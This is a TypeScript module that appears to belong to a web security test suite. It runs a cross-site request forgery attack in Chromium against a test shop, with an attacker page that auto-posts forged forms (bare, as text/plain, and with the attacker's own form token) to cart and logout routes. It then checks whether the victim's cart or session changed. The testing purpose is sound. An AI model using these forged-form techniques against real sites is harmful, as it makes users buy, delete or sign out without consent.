/** CSRF in a real browser, over every unsafe route of the Store. */
import type { BrowserContext } from "playwright-core";
import type { Attack } from "../attack.ts";
import {
  attackerOrigins,
  browserShowsCartOf,
  type ForgedForm,
  selfPosting,
  signedInBrowser,
  tokenIn,
  visit,
  withChromium,
} from "../chromium.ts";
import { ada, grace, home, shopper } from "../people.ts";
import type { Target } from "../target.ts";
import { theftFrom } from "../theft.ts";

const planted = "pebble-numpad";
const shopping = [
  "/shopping-cart/items",
  `/shopping-cart/items/${ada.purchase}`,
  `/shopping-cart/items/${ada.purchase}/remove`,
];
const endings = ["/account/devices/end-others", "/account/devices/end-all", "/logout"];

export const attack: Attack = {
  title: "CSRF",
  story:
    "The victim, signed in, opens a page of the attacker's, on another site or on a sibling host of the shop, which the cookies' SameSite does not keep out. The page posts each of the shop's forms by itself: bare, as text/plain, and with a form token from the attacker's own account. Where it works the victim buys, loses or ends things without knowing.",
  source: "WSTG-SESS-05; ASVS 3.5.1, 3.5.2; CWE-352; Cookie Crumbles (CORF)",
  promised: { kind: "nothing" },
  asDescribed: "holds",
  control: ["cross-site-not-checked", "form-token-not-checked"],
  target: { tls: true },
  async run(target) {
    const attacker = await shopper(target, grace);
    const token = tokenIn((await attacker.get(home)).text, "/logout");
    const theft = await theftFrom(target);
    return withChromium(target, async (browser) => {
      const victim = await signedInBrowser(browser, target, ada);
      for (const origin of attackerOrigins(target)) {
        for (const paths of [shopping, endings]) {
          const forms = paths.flatMap((path) =>
            variants(`${target.origins.store}${path}`, fieldsOf(path), token),
          );
          target.front().attackerServes({ html: selfPosting(forms) });
          await visit(victim, origin, forms.length);
          await theft.attempt(() => hasChanged(victim, target));
        }
      }
      return theft.measured(() => browserShowsCartOf(victim, target, ada));
    });
  },
};

function fieldsOf(path: string): Record<string, string> {
  return path === "/shopping-cart/items" ? { product: planted, quantity: "1" } : { quantity: "99" };
}

function variants(action: string, fields: Readonly<Record<string, string>>, token: string): ForgedForm[] {
  return [
    { action, fields },
    { action, fields, encoding: "text/plain" },
    { action, fields: { ...fields, "form-token": token } },
  ];
}

/** Whether the victim's cart, or their being signed in, is not what it was. */
async function hasChanged(victim: BrowserContext, target: Target): Promise<boolean> {
  const page = await victim.newPage();
  await page.goto(`${target.origins.store}${home}`);
  const quantity = await page
    .locator(`#quantity-${ada.purchase}`)
    .inputValue({ timeout: 1_000 })
    .catch(() => null);
  const isPlanted = (await page.content()).includes(`/shopping-cart/items/${planted}/remove`);
  await page.close();
  return isPlanted || quantity !== "1";
}
